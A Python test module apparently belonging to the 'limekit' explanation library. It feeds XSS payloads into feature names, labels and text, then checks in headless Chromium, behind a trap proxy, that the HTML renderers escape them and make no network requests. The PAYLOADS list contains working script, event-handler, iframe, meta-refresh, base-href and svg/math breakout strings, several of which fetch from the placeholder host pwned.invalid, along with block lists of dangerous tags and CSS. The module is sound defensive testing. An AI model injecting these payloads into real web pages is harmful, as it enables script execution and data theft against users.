"""Every HTML renderer, opened in a real browser with hostile strings everywhere.

Feature names, category values, class names, document text and settings are
set to payloads that would run a script (each sets ``document.title`` to
``PWNED``, most also call ``fetch``) or load something from the network if
they ever reached the page unescaped. Each page is opened in headless
Chromium; the test asserts that

(a) no script ran: the title is untouched, and the DOM Chromium built has no
    script, frame, plugin, ``<base>``, refresh or event-handler attribute;
    every payload is there as plain text;
(b) nothing was fetched: Chromium's only route to the network is an HTTP
    proxy on a local socket this module opens, and it must see no
    connection; statically, the page has no URL but ``data:`` images.

Two controls show the probe can fail: the raw payloads in a page are caught
(script ran, requests made), and the same page with limekit's
Content-Security-Policy runs and fetches nothing (defence in depth for full
pages). A CSP does not govern navigation, so a raw ``<meta http-equiv=refresh>``
would still leave the page even under it: the controls leave that payload out,
and escaping (checked everywhere else) is what stops it.
:func:`assert_safe_in_browser` is the reusable check.

The browser tests are skipped, with the reason, when no Chromium is installed
(``apt-get install chromium``); the static checks always run.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from limekit import ImageExplainer, TabularExplainer, TextExplainer
from limekit.explainers.timeseries import SegmentTimeSeriesExplainer
from limekit.render.html import CSP

MARKER = "PWNED"
PAYLOADS = (
    "<script>document.title='PWNED';fetch('http://pwned.invalid/s')</script>",
    "<img src=x onerror=\"document.title='PWNED';fetch('http://pwned.invalid/i')\">",
    "\"'><svg onload=\"document.title='PWNED'\">",
    "</style><script>document.title='PWNED'</script>",
    "javascript:document.title='PWNED'",
    "<img src=\"http://pwned.invalid/img.png\">",
    "<link rel=\"stylesheet\" href=\"https://pwned.invalid/x.css\">",
    "</title><iframe src=\"javascript:parent.document.title='PWNED'\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://pwned.invalid/r\">",
    "<style>@import 'http://pwned.invalid/imp.css';</style>",
    "<base href=\"http://pwned.invalid/\"><a href=\"x\">x</a>",
    "<svg><script>document.title='PWNED'</script></svg>",
    "<math><mtext></p><script>document.title='PWNED'</script></mtext></math>",
    "<object data=\"http://pwned.invalid/o\"></object><embed src=\"https://pwned.invalid/e\">",
)
P = PAYLOADS

# Attributes that take a URL: only data: URIs may appear in them.
_URL_ATTRS = {"src", "href", "action", "formaction", "srcset", "poster", "background",
              "xlink:href", "ping", "cite", "data", "codebase", "longdesc", "manifest",
              "lowsrc", "dynsrc", "icon"}
# Elements that run code, embed another document, fetch, redirect or rebase URLs.
_FORBIDDEN_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet",
                   "link", "base", "form", "portal", "noscript", "template"}
_CSS_BAD = ("url(", "@import", "expression(", "javascript:", "behavior:", "-moz-binding")


# --------------------------------------------------------------- HTML checks
class _Page(HTMLParser):
    """Tags, attributes, visible text, title text and style text of a document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []  # (tag, name, value)
        self.text: list[str] = []
        self.title: list[str] = []
        self.style: list[str] = []
        self._raw: list[str] = []  # open elements whose content is not visible text

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, name, value or "") for name, value in attrs)
        if tag in ("style", "script", "title"):
            self._raw.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, name, value or "") for name, value in attrs)

    def handle_endtag(self, tag):
        if self._raw and self._raw[-1] == tag:
            self._raw.pop()

    def handle_data(self, data):
        where = self._raw[-1] if self._raw else None
        {"style": self.style, "title": self.title}.get(where, self.text).append(data)


def _parse(doc: str) -> _Page:
    page = _Page()
    page.feed(doc)
    page.close()
    return page


def html_problems(doc: str, expected_literals=()) -> list[str]:
    """What makes ``doc`` unsafe: active elements, handlers, URLs, missing literals.

    Works on a renderer's output and on the DOM a browser serialised alike.
    """
    page = _parse(doc)
    problems = []
    for tag in sorted(set(page.tags) & _FORBIDDEN_TAGS):
        problems.append(f"<{tag}> element")
    for tag, name, value in page.attrs:
        low = value.strip().lower()
        if name.startswith("on"):
            problems.append(f"event handler {name}= on <{tag}>")
        if name in _URL_ATTRS and not low.startswith("data:image/"):
            problems.append(f"URL attribute {name}={value[:60]!r} on <{tag}>")
        if tag == "meta" and name == "http-equiv" and low != "content-security-policy":
            problems.append(f"<meta http-equiv={value!r}>")
        if name == "style" and any(bad in low for bad in _CSS_BAD):
            problems.append(f"style attribute loads or runs something: {value[:60]!r}")
    css = "".join(page.style).lower()
    problems += [f"stylesheet contains {bad!r}" for bad in _CSS_BAD if bad in css]
    if MARKER in "".join(page.title):
        problems.append("the title was changed by a script")
    shown = "".join(page.text)
    problems += [f"not shown as text: {lit[:60]!r}" for lit in expected_literals
                 if lit not in shown]
    return problems


def csp_of(doc: str) -> str | None:
    """The Content-Security-Policy a full page declares in a ``<meta>``, if any."""
    page = _parse(doc)
    tags = [(t, n, v) for t, n, v in page.attrs if t == "meta"]
    for i, (_, name, value) in enumerate(tags):
        if name == "http-equiv" and value.lower() == "content-security-policy":
            return next((v for _, n, v in tags[i + 1:] if n == "content"), None)
    return None


# ------------------------------------------------------------------ browser
CHROMIUM = next((shutil.which(n) for n in ("chromium", "chromium-browser", "google-chrome",
                                            "google-chrome-stable") if shutil.which(n)), None)
# Headless flags that work in a root sandbox; the URL overrides and disabled features stop
# Chromium's own background requests (sign-in, search preconnect, network time), so that
# any connection the trap sees comes from the page.
_FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-extensions", "--disable-default-apps", "--no-default-browser-check",
    "--disable-domain-reliability", "--disable-client-side-phishing-detection",
    "--disable-component-extensions-with-background-pages", "--disable-breakpad",
    "--safebrowsing-disable-auto-update", "--metrics-recording-only", "--no-pings",
    "--dns-prefetch-disable", "--bwsi",
    "--disable-features=NetworkTimeServiceQuerying,OptimizationHints,MediaRouter,Translate,"
    "AutofillServerCommunication,CertificateTransparencyComponentUpdater,PreconnectToSearch",
    "--gaia-url=http://127.0.0.1:9/", "--google-base-url=http://127.0.0.1:9/",
    "--lso-url=http://127.0.0.1:9/", "--google-apis-url=http://127.0.0.1:9/",
    "--virtual-time-budget=2000",
)


class ProxyTrap:
    """A local socket posing as Chromium's HTTP proxy: records and drops every request.

    Every http/https/ws request of the page goes to the proxy (``CONNECT`` for
    https), loopback included, so ``requests`` lists each attempt to reach a
    network.
    """

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        self.requests: list[str] = []
        self._lock = threading.Lock()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self._server.accept()
            except OSError:  # closed
                return
            with conn:
                conn.settimeout(1.0)
                try:
                    first = conn.recv(4096).split(b"\r\n", 1)[0]
                except OSError:
                    first = b"(no request line)"
            with self._lock:
                self.requests.append(first.decode("latin-1"))

    def count(self) -> int:
        with self._lock:
            return len(self.requests)

    def since(self, start: int) -> list[str]:
        with self._lock:
            return self.requests[start:]

    def close(self) -> None:
        self._server.close()


def open_in_browser(doc: str, folder: Path, trap: ProxyTrap) -> tuple[str, list[str]]:
    """Load ``doc`` in headless Chromium; return the DOM it built and the requests it made."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "page.html"
    path.write_text(doc, encoding="utf-8")
    start = trap.count()
    cmd = [CHROMIUM, *_FLAGS, f"--user-data-dir={folder / 'profile'}",
           f"--proxy-server=http://127.0.0.1:{trap.port}", "--proxy-bypass-list=<-loopback>",
           "--dump-dom", path.as_uri()]
    # Own process group: whatever Chromium leaves behind is ended with it, and only it.
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    try:
        dom, _ = proc.communicate(timeout=90)
    finally:
        try:
            os.killpg(proc.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        proc.wait()
    if proc.returncode not in (0, -signal.SIGKILL) or not dom.strip():
        raise RuntimeError(f"chromium failed (exit {proc.returncode}) on {path}")
    time.sleep(0.2)  # let the trap's thread record connections made just before exit
    return dom.decode("utf-8", "replace"), trap.since(start)


def browser_problems(doc: str, folder: Path, trap: ProxyTrap, expected_literals=()
                     ) -> list[str]:
    """What went wrong when Chromium opened ``doc``: scripts, elements, requests."""
    dom, requests = open_in_browser(doc, folder, trap)
    problems = [f"browser DOM: {p}" for p in html_problems(dom, expected_literals)]
    problems += [f"network request: {r}" for r in requests]
    return problems


def assert_safe_in_browser(doc: str, expected_literals, folder: Path, trap: ProxyTrap) -> None:
    """Assert ``doc`` is inert both as written and as Chromium runs it.

    Parameters
    ----------
    doc : str
        The HTML (a full page or a body fragment).
    expected_literals : iterable of str
        User strings that must be displayed verbatim as text.
    folder : Path
        Scratch folder for the page and the browser profile.
    trap : ProxyTrap
        The proxy that sees any network request.
    """
    expected_literals = list(expected_literals)
    static = html_problems(doc, expected_literals)
    assert not static, "\n".join(static)
    dynamic = browser_problems(doc, folder, trap, expected_literals)
    assert not dynamic, "\n".join(dynamic)


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    """(trap, scratch folder factory); skips when Chromium is not installed."""
    if CHROMIUM is None:
        pytest.skip("chromium not installed: apt-get install chromium")
    trap = ProxyTrap()
    root = tmp_path_factory.mktemp("browser")
    counter = iter(range(10**6))
    yield trap, lambda: root / f"run{next(counter)}"
    trap.close()


# ------------------------------------------------------------- explanations
def _hostile_segmenter(image, **kwargs):
    """A 4 x 4 grid whose reported name is a payload (it appears in the settings)."""
    h, w = image.shape[:2]
    return (np.arange(h)[:, None] * 4 // h) * 4 + (np.arange(w)[None, :] * 4 // w)


_hostile_segmenter.__qualname__ = P[0]
_hostile_segmenter.__name__ = P[0]


@pytest.fixture(scope="module")
def explanations():
    """One explanation per kind, each with payloads wherever user text goes."""
    rng = np.random.default_rng(0)
    n = 120
    cat = np.array([P[3], P[4], P[6]], dtype=object)
    X = pd.DataFrame({P[0]: rng.normal(size=n), P[1]: rng.normal(size=n),
                      P[2]: rng.normal(size=n), P[5]: cat[rng.integers(0, 3, size=n)]})

    def table_model(frame):
        z = frame[P[0]].to_numpy() + 2.0 * (frame[P[5]].to_numpy() == P[3])
        p = 1.0 / (1.0 + np.exp(-z))
        return np.column_stack([1 - p, p])

    row = X.iloc[int(np.flatnonzero(X[P[5]].to_numpy() == P[3])[0])]
    tab = TabularExplainer(X, class_names=[P[7], P[8]], random_state=0).explain(
        row, table_model, num_features=4, num_samples=300)
    tab_literals = [P[0], P[1], P[2], P[5], P[3], P[7], P[8]]

    text = " ".join(PAYLOADS)

    def text_model(docs):
        p = np.array([0.2 + 0.6 * ("onerror" in d) for d in docs])
        return np.column_stack([1 - p, p])

    txt = TextExplainer(class_names=[P[9], P[10]], random_state=0).explain(
        text, text_model, num_features=6, num_samples=300)
    txt_literals = [text, P[9], P[10]]

    image = rng.integers(0, 256, size=(24, 24, 3), dtype=np.uint8)

    def image_model(images):
        p = images[:, :12, :12].mean(axis=(1, 2, 3)) / 255.0
        return np.column_stack([1 - p, p])

    kwargs = {"note": P[2]}
    img = ImageExplainer(segmenter=_hostile_segmenter, segmenter_kwargs=kwargs, hide_color=0,
                         class_names=[P[1], P[11]], random_state=0).explain(
        image, image_model, top_labels=2, num_samples=200)
    img_literals = [P[1], P[11], P[0], json.dumps(kwargs, ensure_ascii=False)]

    series = np.r_[np.zeros(20), np.ones(10), np.zeros(10)]

    def series_model(batch):
        p = 1.0 / (1.0 + np.exp(-4.0 * (np.asarray(batch)[:, 20:30].mean(axis=1) - 0.5)))
        return np.column_stack([1 - p, p])

    ts = SegmentTimeSeriesExplainer(n_segments=4, class_names=[P[12], P[13]],
                                    random_state=0).explain(series, series_model,
                                                            top_labels=2, num_samples=200)
    ts_literals = [P[12], P[13]]
    return {"tabular": (tab, tab_literals), "text": (txt, txt_literals),
            "image": (img, img_literals), "timeseries": (ts, ts_literals)}


def _fairness():
    fairness = pytest.importorskip("limekit.fairness")
    res = fairness.FairnessImportance(
        (P[0], P[1]), np.array([0.2, -0.01]), np.array([0.1, -0.05]), np.array([0.3, 0.02]),
        "occlusion", "refit", "demographic_parity", 0.7, 0.95, 100, P[2], (P[3], P[4]),
        {"note": P[5]})
    return res, [P[0], P[1]]


def _treatment():
    treatment = pytest.importorskip("limekit.treatment")
    fields = {f.name for f in dataclasses.fields(treatment.TreatmentExplanation)}
    values = dict(feature_names=(P[0], P[1]), treatment_names=(P[2], P[3]),
                  instance=(0.5, -1.0), recommended=1, harmful_outcome=False,
                  effects=(0.0, 0.4), outcomes=(1.0, 1.4), model_outcomes=(1.0, 1.3),
                  baseline_intercept=1.0, baseline_coef=(0.1, -0.2), effect_intercepts=(0.4,),
                  effect_coef=((0.3, 0.0),), score=0.9, num_samples=100,
                  settings={"note": P[4]})
    if not set(values) <= fields:
        pytest.skip("TreatmentExplanation's fields changed; update this test")
    return treatment.TreatmentExplanation(**values), [P[0], P[1], P[2], P[3]]


def _full_page(kind, explanations):
    if kind == "treatment":
        exp, literals = _treatment()
        return exp.to_html(), literals
    exp, literals = explanations[kind]
    return exp.to_html(), literals


# ---------------------------------------------------------------- static
@pytest.mark.parametrize("kind", ["tabular", "text", "image", "timeseries", "treatment"])
def test_full_pages_are_inert_as_written(kind, explanations):
    page, literals = _full_page(kind, explanations)
    assert page.startswith("<!DOCTYPE html>")
    problems = html_problems(page, literals)
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("kind", ["tabular", "text", "image", "timeseries", "treatment"])
def test_full_pages_declare_the_csp_first(kind, explanations):
    page, _ = _full_page(kind, explanations)
    assert csp_of(page) == CSP
    head = page[: page.index("</head>")]
    # the policy comes before anything it governs (styles), right after the charset
    assert head.index("Content-Security-Policy") < head.index("<style>")
    assert "script-src" not in CSP and "default-src 'none'" in CSP  # no script source at all


def test_static_checks_catch_raw_payloads():
    raw = "<div>" + "".join(PAYLOADS) + "</div>"
    problems = " ".join(html_problems(raw))
    for what in ("<script>", "<iframe>", "<link>", "<base>", "<object>", "<embed>",
                 "event handler onerror=", "URL attribute src='http://pwned.invalid/img.png'",
                 "<meta http-equiv='refresh'>", "@import"):
        assert what in problems, what


# ---------------------------------------------------------------- browser
@pytest.mark.parametrize("kind", ["tabular", "text", "image", "timeseries", "treatment"])
def test_full_page_in_browser(kind, explanations, browser):
    trap, folder = browser
    page, literals = _full_page(kind, explanations)
    assert_safe_in_browser(page, literals, folder(), trap)


def test_notebook_fragments_in_browser(explanations, browser):
    """The ``_repr_html_`` fragments carry no CSP: escaping alone must hold."""
    trap, folder = browser
    parts, literals = [], []
    for kind in ("tabular", "text", "image", "timeseries"):
        exp, lits = explanations[kind]
        parts.append(exp._repr_html_())
        literals += lits
    for make in (_fairness, _treatment):
        obj, lits = make()
        parts.append(obj._repr_html_())
        literals += lits
    doc = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>fragments</title>"
           "</head><body>" + "\n".join(parts) + "</body></html>")
    assert csp_of(doc) is None
    assert_safe_in_browser(doc, literals, folder(), trap)


def _raw_page(csp: str | None) -> str:
    """All payloads unescaped but the refresh, whose navigation would replace the page."""
    meta = f'<meta http-equiv="Content-Security-Policy" content="{csp}">' if csp else ""
    body = "".join(f"<div>{p}</div>" for p in PAYLOADS if "refresh" not in p)
    return ("<!DOCTYPE html><html><head><meta charset=\"utf-8\">" + meta
            + f"<title>raw</title></head><body>{body}</body></html>")


def test_browser_probe_catches_scripts_and_requests(browser):
    """Control: unescaped payloads do run and do fetch, and the probe says so."""
    trap, folder = browser
    problems = browser_problems(_raw_page(None), folder(), trap)
    text = "\n".join(problems)
    assert "the title was changed by a script" in text
    assert "network request: GET http://pwned.invalid/" in text
    assert "network request: CONNECT pwned.invalid:443" in text  # https too


def test_csp_blocks_scripts_and_requests_even_unescaped(browser):
    """Defence in depth: under limekit's CSP the raw payloads run nothing, fetch nothing."""
    trap, folder = browser
    dom, requests = open_in_browser(_raw_page(CSP), folder(), trap)
    assert MARKER not in "".join(_parse(dom).title)
    assert requests == []
